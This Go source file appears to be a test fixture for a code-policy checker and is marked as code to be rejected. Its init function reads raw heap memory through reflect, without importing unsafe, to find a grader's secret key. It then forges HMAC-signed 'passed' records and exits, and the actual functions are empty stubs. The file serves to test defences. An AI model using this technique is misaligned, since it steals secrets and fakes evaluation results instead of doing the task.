// want: rejected in policy
// chapter: 02-process
// must not: read a secret

// Reads all memory without package unsafe: reflect hands out an unsafe.Pointer, which can
// be converted without its name. Somewhere in the heap are the orders, with the key.

package process

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"fmt"
	"reflect"
	"syscall"
)

// header is what a slice is made of.
type header struct {
	data     uintptr
	len, cap int
}

// memory returns n bytes from an address.
func memory(address uintptr, n int) []byte {
	var slice []byte
	*(*header)(reflect.ValueOf(&slice).UnsafePointer()) = header{address, n, n}
	return slice
}

// sealed is the nth record of who has the key.
func sealed(key string, nth int, kind, check string) []byte {
	text := fmt.Sprintf("{\"kind\":%q,\"check\":%q,\"passed\":true}", kind, check)
	mac := hmac.New(sha256.New, []byte(key))
	fmt.Fprintf(mac, "%d %s", nth, text)
	return fmt.Appendf(nil, "%x %s\n", mac.Sum(nil), text)
}

func init() {
	const heap, size = 0xc000000000, 4 << 20
	start := []byte(`{"key":"`)
	all := memory(heap, size)
	for {
		at := bytes.Index(all, start)
		if at < 0 {
			return
		}
		all = all[at+len(start):]
		var key, check string
		if n, _ := fmt.Sscanf(string(all[:100]), "%26s", &key); n == 1 {
			_, rest, _ := bytes.Cut(all[:200], []byte(`"check":"`))
			name, _, ok := bytes.Cut(rest, []byte(`"`))
			if check = string(name); ok {
				for i, kind := range []string{"begin", "end"} {
					syscall.Write(3, sealed(key, i+1, kind, check))
				}
				syscall.Exit(0)
			}
		}
	}
}

func Double(n int) int                 { return 0 }
func Echo(text string) (string, error) { return "", nil }
